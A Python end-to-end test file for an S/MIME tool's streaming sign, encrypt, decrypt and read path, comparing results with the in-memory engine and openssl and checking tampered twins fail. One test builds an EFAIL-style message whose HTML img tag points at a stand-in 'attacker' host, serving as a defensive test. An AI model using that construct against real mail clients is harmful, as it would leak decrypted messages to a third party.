#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""The bounded-memory path: sign, encrypt, decrypt and read streamed from file to file.

Messages over 16 MiB take it automatically; `--stream` forces it on small ones, so each
streamed result is compared with the in-memory engine's on the same input, and with openssl
(which reads and writes the indefinite-length BER the streaming path produces). Each valid
case has a twin that tampers one thing and must fail for that reason — for AES-GCM with no
output file left behind (catalogue E3: no plaintext of a forged message is ever released).

Run:  /usr/bin/python3 tests/e2e/test_streaming.py [-v] [--sealpost BIN]
"""

import base64
import os
import random
import sys
import unittest
from pathlib import Path

import e2e_util as u
from e2e_util import OK, NOT_GOOD

BIG_ATTACHMENT = 18 << 20  # bytes of attachment: the message is then over the 16 MiB limit


def small_message(to="bob@example.org"):
    return (b"From: Alice <alice@example.org>\r\nTo: Bob <" + to.encode() + b">\r\n"
            b"Subject: streaming\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n"
            b"Hello Bob,\r\nthe figures are attached.\r\n")


def big_message(path, seed=1, attachment=BIG_ATTACHMENT):
    """A multipart/mixed message with an ~18 MiB base64 attachment, LF line ends."""
    rnd = random.Random(seed)
    payload = rnd.randbytes(attachment)
    with open(path, "wb") as f:
        f.write(b"From: Alice <alice@example.org>\nTo: Bob <bob@example.org>\nSubject: big\n"
                b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"mix\"\n\n"
                b"--mix\nContent-Type: text/plain\n\nsee the attachment\n--mix\n"
                b"Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n")
        f.write(base64.encodebytes(payload))
        f.write(b"--mix--\n")
    return payload


def body_der(path):
    """The CMS DER of a pkcs7-mime message file (base64 body)."""
    data = Path(path).read_bytes()
    head, _, body = data.partition(b"\r\n\r\n")
    return base64.b64decode(b"".join(body.split()))


def with_der(path, out, der):
    data = Path(path).read_bytes()
    head, _, _ = data.partition(b"\r\n\r\n")
    Path(out).write_bytes(head + b"\r\n\r\n" + base64.encodebytes(der))


def leftovers(directory):
    return [p.name for p in Path(directory).iterdir() if ".tmp-" in p.name]


class StreamingTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.w = u.world()
        cls.alice = cls.w.profile("alice-rsa")
        cls.bob = cls.w.profile("bob-rsa")
        cls.bob_cert = cls.w.cert("bob", "rsa")

    def setUp(self):
        self.d = self.w.scratch(self.id().split(".")[-1])

    # -- small messages, --stream against the in-memory engine ---------------------------

    def encrypt_small(self, cipher, stream=True):
        src = self.d / "msg.eml"
        src.write_bytes(small_message())
        out = self.d / f"msg-{cipher}-{'s' if stream else 'm'}.p7m"
        self.alice.run("encrypt", "--in", src, "--out", out, "--recipient-cert", self.bob_cert,
                       "--cipher", cipher, *(["--stream"] if stream else []), expect=OK)
        return out

    def test_streamed_encryption_decrypts_like_in_memory(self):
        for cipher in ("aes-256-cbc", "aes-256-gcm", "aes-128-gcm"):
            with self.subTest(cipher=cipher):
                streamed, reference = self.encrypt_small(cipher), self.encrypt_small(cipher, stream=False)
                outs = []
                for i, (src, flag) in enumerate([(streamed, ["--stream"]), (streamed, []), (reference, ["--stream"])]):
                    out = self.d / f"dec-{cipher}-{i}.eml"
                    self.bob.run("decrypt", "--in", src, "--out", out, *flag, expect=OK)
                    outs.append(out.read_bytes())
                self.assertEqual(outs[0], outs[1])
                self.assertEqual(outs[0], outs[2])
                self.assertIn(b"the figures are attached", outs[0])
                # openssl reads the indefinite-length BER the stream writes
                plain = u.cms_decrypt_raw(body_der(streamed), self.bob_cert, self.w.pki.key("bob", "rsa"), self.d)
                self.assertIn(b"the figures are attached", plain)

    def test_streamed_decryption_reads_openssl_stream_output(self):
        src = self.d / "entity.txt"
        src.write_bytes(b"Content-Type: text/plain\r\n\r\nfrom openssl -stream\r\n" * 2000)
        der = u.openssl("cms", "-encrypt", "-stream", "-binary", "-aes-256-cbc", "-outform", "DER",
                        "-in", src, self.bob_cert)
        self.assertEqual(der[1], 0x80, "openssl -stream should write indefinite lengths")
        msg = self.d / "openssl.p7m"
        msg.write_bytes(b"From: a@example.org\r\nTo: bob@example.org\r\nMIME-Version: 1.0\r\n"
                        b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n"
                        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(der))
        out = self.d / "out.eml"
        self.bob.run("decrypt", "--in", msg, "--out", out, "--stream", expect=OK)
        self.assertEqual(out.read_bytes().count(b"from openssl -stream"), 2000)

    def test_gcm_tag_flip_streamed_releases_nothing(self):
        streamed = self.encrypt_small("aes-256-gcm")
        der = bytearray(body_der(streamed))
        # The stream ends: mac OCTET STRING (16 bytes), then six end-of-contents octets.
        self.assertEqual(bytes(der[-6:]), b"\0" * 6)
        self.assertEqual(der[-6 - 18], 0x04)
        der[-7] ^= 0x01
        forged = self.d / "forged.p7m"
        with_der(streamed, forged, bytes(der))
        out = self.d / "forged-out.eml"
        r = self.bob.run("decrypt", "--in", forged, "--out", out, "--stream", expect=NOT_GOOD)
        self.assertIn(b"authentication tag", r.stderr)
        self.assertFalse(out.exists())
        self.assertEqual(leftovers(self.d), [])
        # the untouched twin decrypts
        self.bob.run("decrypt", "--in", streamed, "--out", out, "--stream", expect=OK)

    def test_gcm_ciphertext_flip_streamed_releases_nothing(self):
        streamed = self.encrypt_small("aes-256-gcm")
        der = bytearray(body_der(streamed))
        der[len(der) - 40] ^= 0x80  # inside the last ciphertext chunk
        forged = self.d / "forged.p7m"
        with_der(streamed, forged, bytes(der))
        out = self.d / "forged-out.eml"
        self.bob.run("decrypt", "--in", forged, "--out", out, "--stream", expect=NOT_GOOD)
        self.assertFalse(out.exists())
        _, verdict = u.examine(self.bob, "read", forged, "--stream")
        self.assertEqual(verdict["layers"][0]["status"], "integrity")
        self.assertFalse(verdict["encrypted"] and verdict["exit_code"] == 0)
        self.assertEqual(verdict.get("body") or "", "")

    def test_streamed_sign_verifies_in_memory_and_with_openssl(self):
        src = self.d / "msg.eml"
        src.write_bytes(small_message())
        signed = self.d / "signed.eml"
        self.alice.run("sign", "--in", src, "--out", signed, "--stream", expect=OK)
        for flag in ([], ["--stream"]):
            _, verdict = u.examine(self.bob, "verify", signed, *flag)
            self.assertEqual(verdict["exit_code"], 0, verdict)
            self.assertEqual(verdict["signatures"][0]["status"], "valid")
            self.assertTrue(verdict["signatures"][0]["covers_whole_message"])
        u.openssl("cms", "-verify", "-in", signed, "-CAfile", self.w.pki.root, "-purpose", "any",
                  "-certfile", self.w.pki.intermediate, "-out", self.d / "openssl.out")
        # twin: one body byte changed
        tampered = self.d / "tampered.eml"
        tampered.write_bytes(signed.read_bytes().replace(b"figures are", b"figures arE"))
        _, verdict = u.examine(self.bob, "verify", tampered, "--stream")
        self.assertEqual(verdict["signatures"][0]["status"], "invalid")
        self.assertNotEqual(verdict["exit_code"], 0)

    def test_streamed_verify_of_a_message_stored_with_lf_line_ends(self):
        # Unix mail stores keep LF: the one-pass digest must canonicalise what it hashes.
        src = self.d / "msg.eml"
        src.write_bytes(small_message())
        signed = self.d / "signed.eml"
        self.alice.run("sign", "--in", src, "--out", signed, expect=OK)
        stored = self.d / "stored-lf.eml"
        stored.write_bytes(signed.read_bytes().replace(b"\r\n", b"\n"))
        _, verdict = u.examine(self.bob, "verify", stored, "--stream")
        self.assertEqual(verdict["signatures"][0]["status"], "valid", verdict)
        self.assertEqual(verdict["exit_code"], 0, verdict)
        # twin: one body byte changed
        tampered = self.d / "tampered.eml"
        tampered.write_bytes(stored.read_bytes().replace(b"figures are", b"figures arE"))
        _, verdict = u.examine(self.bob, "verify", tampered, "--stream")
        self.assertEqual(verdict["signatures"][0]["status"], "invalid")
        self.assertIn("changed", verdict["signatures"][0]["detail"])

    def test_streamed_verify_when_micalg_names_another_digest(self):
        # The one-pass digest follows micalg; a signer that used another algorithm gets the
        # signed part read again, with the same verdict.
        src = self.d / "msg.eml"
        src.write_bytes(small_message())
        signed = self.d / "signed.eml"
        self.alice.run("sign", "--in", src, "--out", signed, expect=OK)
        data = signed.read_bytes()
        self.assertIn(b"micalg=sha-256", data)
        relabelled = self.d / "micalg-512.eml"
        relabelled.write_bytes(data.replace(b"micalg=sha-256", b"micalg=sha-512"))
        _, verdict = u.examine(self.bob, "verify", relabelled, "--stream")
        self.assertEqual(verdict["signatures"][0]["status"], "valid", verdict)
        self.assertEqual(verdict["signatures"][0]["digest"], "sha256")
        tampered = self.d / "tampered.eml"
        tampered.write_bytes(relabelled.read_bytes().replace(b"figures are", b"figures arE"))
        _, verdict = u.examine(self.bob, "verify", tampered, "--stream")
        self.assertEqual(verdict["signatures"][0]["status"], "invalid")
        self.assertIn("changed", verdict["signatures"][0]["detail"])

    def test_streamed_verify_of_an_openssl_sha384_signature(self):
        entity = self.d / "entity.txt"
        entity.write_bytes(b"Content-Type: text/plain\r\n\r\nthe figures are attached\r\n")
        signed = self.d / "openssl-384.eml"
        p = self.w.pki
        u.openssl("cms", "-sign", "-md", "sha384", "-in", entity, "-signer", p.cert("alice", "rsa"),
                  "-inkey", p.key("alice", "rsa"), "-certfile", p.intermediate, "-out", signed)
        self.assertIn(b"sha-384", signed.read_bytes())
        _, verdict = u.examine(self.bob, "verify", signed, "--stream")
        self.assertEqual(verdict["signatures"][0]["status"], "valid", verdict)
        self.assertEqual(verdict["signatures"][0]["digest"], "sha384")
        tampered = self.d / "tampered.eml"
        tampered.write_bytes(signed.read_bytes().replace(b"figures are", b"figures arE"))
        _, verdict = u.examine(self.bob, "verify", tampered, "--stream")
        self.assertEqual(verdict["signatures"][0]["status"], "invalid")
        self.assertIn("changed", verdict["signatures"][0]["detail"])

    def test_unreadable_outer_signature_still_reports_the_layer_inside_on_both_paths(self):
        # Found by the stream_verify fuzzer: the streamed path stopped at an unreadable
        # multipart/signed signature, the in-memory path went on into the signed part.
        entity = self.d / "entity.txt"
        entity.write_bytes(b"Content-Type: text/plain\r\n\r\nthe figures are attached\r\n")
        opaque = self.d / "opaque.eml"
        p = self.w.pki
        u.openssl("cms", "-sign", "-nodetach", "-in", entity, "-signer", p.cert("alice", "rsa"),
                  "-inkey", p.key("alice", "rsa"), "-certfile", p.intermediate, "-out", opaque)
        inner = opaque.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
        inner = inner[inner.index(b"Content-Type:"):]  # from its own MIME header on
        wrapped = (b"From: Alice <alice@example.org>\r\nTo: Bob <bob@example.org>\r\nSubject: nested\r\n"
                   b"MIME-Version: 1.0\r\nContent-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; "
                   b"micalg=sha-256; boundary=\"b\"\r\n\r\n--b\r\n" + inner + b"\r\n--b\r\n"
                   b"Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                   b"bm90IGEgc2lnbmF0dXJl\r\n--b--\r\n")
        msg = self.d / "nested.eml"
        msg.write_bytes(wrapped)
        verdicts = [u.examine(self.bob, "verify", msg, *flag)[1] for flag in ([], ["--stream"])]
        for verdict in verdicts:
            self.assertEqual([(l["kind"], l["status"]) for l in verdict["layers"]],
                             [("signed", "malformed"), ("signed", "ok")], verdict)
            self.assertEqual(verdict["signatures"][0]["status"], "valid", verdict)
        self.assertEqual(verdicts[0]["exit_code"], verdicts[1]["exit_code"])
        self.assertEqual(verdicts[0]["signed"], verdicts[1]["signed"])

    def test_streamed_multipart_signed_with_three_parts_is_malformed(self):
        src = self.d / "msg.eml"
        src.write_bytes(small_message())
        signed = self.d / "signed.eml"
        self.alice.run("sign", "--in", src, "--out", signed, expect=OK)
        data = signed.read_bytes()
        boundary = data.split(b'boundary="')[1].split(b'"')[0]
        extra = b"--" + boundary + b"\r\nContent-Type: text/plain\r\n\r\nextra part\r\n--" + boundary + b"--"
        three = self.d / "three.eml"
        three.write_bytes(data.replace(b"--" + boundary + b"--", extra))
        _, verdict = u.examine(self.bob, "verify", three, "--stream")
        self.assertEqual(verdict["layers"][0]["status"], "malformed")
        self.assertIn("exactly two parts", verdict["layers"][0]["error"])
        self.assertEqual(verdict["signatures"], [])
        _, twin = u.examine(self.bob, "verify", signed, "--stream")
        self.assertEqual(twin["exit_code"], 0)

    def test_streamed_read_does_not_decrypt_a_non_root_encrypted_part(self):
        inner = self.encrypt_small("aes-256-gcm")
        part = inner.read_bytes().partition(b"MIME-Version: 1.0\r\n")[2]
        mixed = self.d / "efail.eml"
        mixed.write_bytes(b"From: eve@example.org\r\nTo: bob@example.org\r\nMIME-Version: 1.0\r\n"
                          b"Content-Type: multipart/mixed; boundary=\"x\"\r\n\r\n--x\r\n"
                          b"Content-Type: text/html\r\n\r\n<img src=\"http://attacker/?\r\n--x\r\n" + part +
                          b"\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n")
        _, verdict = u.examine(self.bob, "read", mixed, "--stream")
        self.assertEqual([l["status"] for l in verdict["layers"]], ["not-decrypted"])
        self.assertFalse(verdict["encrypted"])
        # twin: the same encrypted message as the root decrypts
        _, root = u.examine(self.bob, "read", inner, "--stream")
        self.assertEqual(root["layers"][0]["status"], "ok")
        self.assertTrue(root["encrypted"])

    # -- messages over 16 MiB: the automatic path -----------------------------------------

    # -- 1 to 16 MiB: in-memory checks, then the streaming engine for the bytes ------------

    def mid_size_message(self, path):
        text = b"".join(b"line %07d of a mid-size message body\r\n" % i for i in range(60000))  # ~2.4 MB
        path.write_bytes(small_message() + text)
        return text

    def test_mid_size_encrypt_and_decrypt_take_the_streaming_engine(self):
        src = self.d / "mid.eml"
        text = self.mid_size_message(src)
        for cipher in ("aes-256-cbc", "aes-256-gcm"):
            with self.subTest(cipher=cipher):
                enc = self.d / f"mid-{cipher}.p7m"
                self.alice.run("encrypt", "--in", src, "--out", enc, "--recipient-cert", self.bob_cert,
                               "--cipher", cipher, expect=OK)
                self.assertEqual(body_der(enc)[:2], b"\x30\x80")  # indefinite-length BER: streamed
                dec = self.d / f"mid-{cipher}.eml"
                self.bob.run("decrypt", "--in", enc, "--out", dec, expect=OK)
                self.assertTrue(dec.read_bytes().endswith(text))
                self.assertEqual(os.stat(dec).st_mode & 0o777, 0o600)
                plain = u.cms_decrypt_raw(body_der(enc), self.bob_cert, self.w.pki.key("bob", "rsa"), self.d)
                self.assertTrue(plain.endswith(text))
        # The twin: a flipped GCM tag fails, with nothing written and nothing left behind.
        der = bytearray(body_der(self.d / "mid-aes-256-gcm.p7m"))
        der[-7] ^= 0x01
        forged = self.d / "mid-forged.p7m"
        with_der(self.d / "mid-aes-256-gcm.p7m", forged, bytes(der))
        out = self.d / "mid-forged.eml"
        r = self.bob.run("decrypt", "--in", forged, "--out", out, expect=NOT_GOOD)
        self.assertIn(b"authentication tag", r.stderr)
        self.assertFalse(out.exists())
        self.assertEqual(leftovers(self.d), [])

    def test_mid_size_sign_verifies_and_tampered_twin_fails(self):
        src = self.d / "mid.eml"
        self.mid_size_message(src)
        signed = self.d / "mid-signed.eml"
        self.alice.run("sign", "--in", src, "--out", signed, expect=OK)
        _, verdict = u.examine(self.bob, "verify", signed)
        self.assertEqual(verdict["exit_code"], 0, verdict)
        u.openssl("cms", "-verify", "-in", signed, "-CAfile", self.w.pki.root, "-purpose", "any",
                  "-certfile", self.w.pki.intermediate, "-out", "/dev/null")
        data = bytearray(signed.read_bytes())
        at = data.index(b"line 0030000")
        data[at + 5] = ord("9")
        tampered = self.d / "mid-tampered.eml"
        tampered.write_bytes(bytes(data))
        _, verdict = u.examine(self.bob, "verify", tampered)
        self.assertEqual(verdict["signatures"][0]["status"], "invalid", verdict)
        self.assertIn("changed", verdict["signatures"][0]["detail"])

    def test_mid_size_content_that_needs_re_encoding_is_signed_in_memory(self):
        # Lines over 998 octets and 8-bit text: the streaming signer refuses both, the
        # in-memory one re-encodes them (quoted-printable, base64), and the result verifies.
        cases = {
            "long": (b"Content-Type: text/plain\r\n\r\n" + (b"x" * 1200 + b"\r\n") * 2000, b"quoted-printable"),
            "8bit": (b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" +
                     "Gr\u00fc\u00dfe\r\n".encode() * 300000, b"base64"),
        }
        for name, (entity, encoding) in cases.items():
            with self.subTest(name):
                src = self.d / f"{name}.eml"
                src.write_bytes(b"From: Alice <alice@example.org>\r\nTo: Bob <bob@example.org>\r\n"
                                b"Subject: re-encoded\r\nMIME-Version: 1.0\r\n" + entity)
                self.assertGreater(src.stat().st_size, 1 << 20)
                signed = self.d / f"{name}-signed.eml"
                self.alice.run("sign", "--in", src, "--out", signed, expect=OK)
                head = signed.read_bytes()[:4096].lower()
                self.assertIn(b"content-transfer-encoding: " + encoding, head)
                _, verdict = u.examine(self.bob, "verify", signed)
                self.assertEqual(verdict["exit_code"], 0, verdict)

    def test_mid_size_inputs_the_stream_cannot_take_stay_in_memory(self):
        # A message without header fields: the streaming engine refuses it, the in-memory one
        # encrypts it as text/plain (definite-length DER shows which one wrote it).
        text = b"".join(b"headerless line %07d\n" % i for i in range(100000))
        src = self.d / "headerless.txt"
        src.write_bytes(text)
        enc = self.d / "headerless.p7m"
        self.alice.run("encrypt", "--in", src, "--out", enc, "--recipient-cert", self.bob_cert, expect=OK)
        self.assertEqual(body_der(enc)[:2], b"\x30\x83")
        dec = self.d / "headerless.eml"
        self.bob.run("decrypt", "--in", enc, "--out", dec, expect=OK)
        self.assertTrue(dec.read_bytes().endswith(text.replace(b"\n", b"\r\n")))
        # A bare DER EnvelopedData file (no MIME around it), as openssl writes with -outform DER.
        entity = self.d / "entity.txt"
        entity.write_bytes(b"Content-Type: text/plain\r\n\r\n" + text.replace(b"\n", b"\r\n"))
        bare = self.d / "bare.p7m"
        u.openssl("cms", "-encrypt", "-binary", "-aes256", "-outform", "DER", "-in", entity, "-out", bare,
                  self.bob_cert)
        self.assertGreater(bare.stat().st_size, 1 << 20)
        out = self.d / "bare.eml"
        self.bob.run("decrypt", "--in", bare, "--out", out, expect=OK)
        self.assertTrue(out.read_bytes().endswith(text.replace(b"\n", b"\r\n")))

    def test_big_message_encrypt_decrypt_round_trip(self):
        src = self.d / "big.eml"
        big_message(src)
        for cipher in ("aes-256-cbc", "aes-256-gcm"):
            with self.subTest(cipher=cipher):
                enc = self.d / f"big-{cipher}.p7m"
                self.alice.run("encrypt", "--in", src, "--out", enc, "--recipient-cert", self.bob_cert,
                               "--cipher", cipher, expect=OK)
                dec = self.d / f"big-{cipher}.eml"
                self.bob.run("decrypt", "--in", enc, "--out", dec, expect=OK)
                self.assertEqual(dec.read_bytes().replace(b"\r\n", b"\n").split(b"MIME-Version: 1.0\n", 1)[1],
                                 src.read_bytes().split(b"MIME-Version: 1.0\n", 1)[1])
                self.assertEqual(os.stat(dec).st_mode & 0o777, 0o600)

    def test_big_gcm_tag_flip_releases_nothing(self):
        src = self.d / "big.eml"
        big_message(src, seed=2)
        enc = self.d / "big.p7m"
        self.alice.run("encrypt", "--in", src, "--out", enc, "--recipient-cert", self.bob_cert,
                       "--cipher", "aes-256-gcm", expect=OK)
        der = bytearray(body_der(enc))
        der[-7] ^= 0x01
        forged = self.d / "forged.p7m"
        with_der(enc, forged, bytes(der))
        out = self.d / "out.eml"
        self.bob.run("decrypt", "--in", forged, "--out", out, expect=NOT_GOOD)
        self.assertFalse(out.exists())
        self.assertEqual(leftovers(self.d), [])

    def test_huge_gcm_message_is_read_in_one_pass_and_its_tag_checked(self):
        # Over the 50 MiB a part may take in memory: `read` decrypts it in one pass from the
        # input and walks the plaintext only once the tag has verified.
        src = self.d / "huge.eml"
        big_message(src, seed=5, attachment=40 << 20)
        enc = self.d / "huge.p7m"
        self.alice.run("encrypt", "--in", src, "--out", enc, "--recipient-cert", self.bob_cert,
                       "--cipher", "aes-256-gcm", expect=OK)
        self.assertGreater(enc.stat().st_size, 50 << 20)
        _, verdict = u.examine(self.bob, "read", enc)
        self.assertEqual(verdict["layers"][0]["status"], "ok", verdict)
        self.assertEqual(verdict["layers"][0]["form"], "authEnveloped-data")
        der = bytearray(body_der(enc))
        der[-7] ^= 0x01  # the tag's last byte
        forged = self.d / "huge-forged.p7m"
        with_der(enc, forged, bytes(der))
        _, verdict = u.examine(self.bob, "read", forged)
        self.assertEqual(verdict["layers"][0]["status"], "integrity", verdict)
        self.assertIn("authentication tag", verdict["layers"][0]["error"])
        self.assertNotEqual(verdict["exit_code"], 0)
        self.assertEqual(verdict.get("body") or "", "")
        self.assertEqual(leftovers(self.d), [])

    def test_big_message_sign_verify_and_tampered_twin(self):
        src = self.d / "big.eml"
        big_message(src, seed=3)
        signed = self.d / "big-signed.eml"
        self.alice.run("sign", "--in", src, "--out", signed, expect=OK)
        _, verdict = u.examine(self.bob, "verify", signed)
        self.assertEqual(verdict["exit_code"], 0, verdict)
        self.assertTrue(verdict["signatures"][0]["covers_whole_message"])
        u.openssl("cms", "-verify", "-in", signed, "-CAfile", self.w.pki.root, "-purpose", "any",
                  "-certfile", self.w.pki.intermediate, "-out", "/dev/null")
        data = bytearray(signed.read_bytes())
        middle = len(data) // 2
        data[middle] = ord("A") if data[middle] != ord("A") else ord("B")
        tampered = self.d / "big-tampered.eml"
        tampered.write_bytes(bytes(data))
        _, verdict = u.examine(self.bob, "verify", tampered)
        self.assertEqual(verdict["signatures"][0]["status"], "invalid")
        self.assertIn("changed", verdict["signatures"][0]["detail"])

    def test_big_protect_then_read(self):
        src = self.d / "big.eml"
        big_message(src, seed=4)
        prot = self.d / "big-protected.p7m"
        self.alice.run("protect", "--sign", "--encrypt", "--in", src, "--out", prot,
                       "--recipient-cert", self.bob_cert, expect=OK)
        _, verdict = u.examine(self.bob, "read", prot)
        self.assertEqual(verdict["exit_code"], 0, verdict)
        self.assertTrue(verdict["encrypted"])
        self.assertTrue(verdict["signed"])
        self.assertEqual([l["kind"] for l in verdict["layers"]], ["encrypted", "signed"])

    def test_big_8bit_message_is_not_signed_by_streaming(self):
        src = self.d / "big8.eml"
        with open(src, "wb") as f:
            f.write(b"From: alice@example.org\nTo: bob@example.org\nSubject: 8bit\n"
                    b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n")
            f.write(("Grüße\n" * (3 << 20)).encode())
        out = self.d / "signed.eml"
        r = self.alice.run("sign", "--in", src, "--out", out)
        self.assertNotEqual(r.rc, OK)
        self.assertIn(b"8-bit", r.stderr)
        self.assertFalse(out.exists())
        self.assertEqual(leftovers(self.d), [])


if __name__ == "__main__":
    sys.argv = u.sealpost_cli.take_binary_arg(sys.argv)
    unittest.main()
